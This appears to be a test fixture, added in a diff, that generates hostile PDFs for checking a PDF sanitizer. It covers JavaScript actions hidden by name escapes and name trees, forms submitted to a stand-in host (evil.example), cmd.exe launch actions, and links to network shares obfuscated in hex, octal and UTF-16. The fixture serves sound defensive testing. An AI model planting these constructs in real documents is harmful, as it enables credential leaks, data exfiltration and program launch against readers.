@@ -1,0 +1,117 @@
+import { Buffer } from 'node:buffer';
+import { buildPdf, pdfWithObjectStream, SCRIPT, stream } from './pdf.ts';
+
+/** PDFs whose actions stand in the open, under names and in places that a reader may not look for. */
+type HostilePdf = [name: string, make: () => Buffer];
+
+const OPEN = '/OpenAction 7 0 R';
+const share = '\\\\\\\\host\\\\share\\\\cv.pdf';
+const utf16 = (text: string) => `<feff${Buffer.from(text, 'utf16le').swap16().toString('hex')}>`;
+const link = (action: string, ...objects: string[]) =>
+  buildPdf({ page: `/Annots [<< /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>]`, objects });
+const opening = (action: string, ...objects: (string | Buffer)[]) =>
+  buildPdf({ catalog: `/OpenAction << ${action} >>`, objects });
+
+export const hiddenNames: HostilePdf[] = [
+  ['/J#53', () => opening('/S /J#61v#61Script /J#53 (app.alert\\(1\\))')],
+  [
+    'a key with a byte that is blank to one viewer',
+    () => opening('/S /JavaScript\xff/JS\x80(app.alert\\(1\\))'),
+  ],
+  [
+    'a script as a stream',
+    () => opening('/S /JavaScript /JS 6 0 R', stream('', Buffer.from('app.alert(1)'))),
+  ],
+  ['an action named by reference', () => opening('/S 6 0 R /JS 7 0 R', '/JavaScript', '(app.alert\\(1\\))')],
+  [
+    'a name tree',
+    () =>
+      buildPdf({ catalog: '/Names << /JavaScript 6 0 R >>', objects: ['<< /Names [(a) 7 0 R] >>', SCRIPT] }),
+  ],
+  [
+    'a name tree of trees',
+    () =>
+      buildPdf({
+        catalog: '/Names << /JavaScript << /Kids [6 0 R] >> >>',
+        objects: ['<< /Limits [(a) (a)] /Names [(a) 7 0 R] >>', SCRIPT],
+      }),
+  ],
+  ['a page that opens', () => buildPdf({ page: `/AA << /O ${SCRIPT} >>` })],
+  [
+    'a field that is left',
+    () =>
+      buildPdf({
+        catalog: '/AcroForm << /Fields [6 0 R] >>',
+        page: '/Annots [6 0 R]',
+        objects: [
+          `<< /FT /Tx /T (a) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /Bl ${SCRIPT} >> >>`,
+        ],
+      }),
+  ],
+  ['a next action', () => opening(`/S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT}`)],
+];
+
+export const otherActions: HostilePdf[] = [
+  [
+    'a form that is sent when opened',
+    () => opening('/S /SubmitForm /F << /FS /URL /F (http://evil.example/) >>'),
+  ],
+  [
+    'a form that is sent, in an object stream',
+    () => pdfWithObjectStream(['<< /S /SubmitForm /F (http://evil.example/) >>'], {}, { catalog: OPEN }),
+  ],
+  ['data that is imported', () => opening('/S /ImportData /F (a.fdf)')],
+  ['a start of a program by a link', () => link('/S /Launch /F (cmd.exe)')],
+  ['a start of a program, named by reference', () => link('/S 6 0 R /F (cmd.exe)', '/Launch')],
+  ['a file on a share', () => opening(`/S /GoToR /F (${share}) /D [0 /Fit]`)],
+  [
+    'a file on a share, as a description',
+    () => opening(`/S /GoToR /F << /Type /Filespec /F (a.pdf) /UF (${share}) >> /D [0 /Fit]`),
+  ],
+  [
+    'a file on a share, in hex',
+    () => link('/S /GoToR /F <5c5c686f73745c73686172655c612e706466> /D [0 /Fit]'),
+  ],
+  ['a file on a share, in UTF-16', () => link(`/S /GoToR /F ${utf16('\\\\host\\share\\a.pdf')} /D [0 /Fit]`)],
+  ['a file on a share, in octal', () => link('/S /GoToR /F (\\134\\134host\\134share) /D [0 /Fit]')],
+  ['a file on a share, by reference', () => link('/S /GoToR /F 6 0 R /D [0 /Fit]', `(${share})`)],
+  ['a file on a share, with slashes', () => link('/S /GoToR /F (//host/share/a.pdf) /D [0 /Fit]')],
+  ['an address on a share', () => link(`/S /URI /URI (${share})`)],
+  ['an address on a share, with a scheme', () => link('/S /URI /URI (file://host/share/a.pdf)')],
+  ['an address on a share, with four slashes', () => link('/S /URI /URI (FILE:////host/share/a.pdf)')],
+  ['an article on a share', () => link(`/S /Thread /F (${share}) /D 0`)],
+  ['an address that is a script', () => link('/S /URI /URI (javascript:alert\\(1\\))')],
+  ['an address that is a script, with blanks', () => link('/S /URI /URI ( java\\nscript:alert\\(1\\))')],
+  [
+    'a stream in another file',
+    () => buildPdf({ objects: [stream('/F (http://evil.example/a)', Buffer.alloc(0))] }),
+  ],
+  [
+    'a stream on a share',
+    () => buildPdf({ objects: [stream(`/F << /Type /Filespec /F (${share}) >>`, Buffer.alloc(0))] }),
+  ],
+  [
+    'a stream in a file by reference',
+    () => buildPdf({ objects: [stream('/F 7 0 R', Buffer.alloc(0)), '(a)'] }),
+  ],
+  [
+    'a film',
+    () => buildPdf({ page: '/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>]' }),
+  ],
+  ['a sound', () => opening('/S /Sound /Sound 6 0 R', stream('/R 8000', Buffer.alloc(9)))],
+  ['a rendition with a script', () => opening('/S /Rendition /OP 0 /JS (app.alert\\(1\\))')],
+  [
+    'a model in three dimensions',
+    () => buildPdf({ page: '/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>]' }),
+  ],
+  ['a rich medium', () => buildPdf({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' })],
+  [
+    'a form in XML',
+    () =>
+      buildPdf({
+        catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
+        objects: [stream('', Buffer.from('<xdp:xdp/>'))],
+      }),
+  ],
+  ['a target in an embedded file', () => opening('/S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit]')],
+];
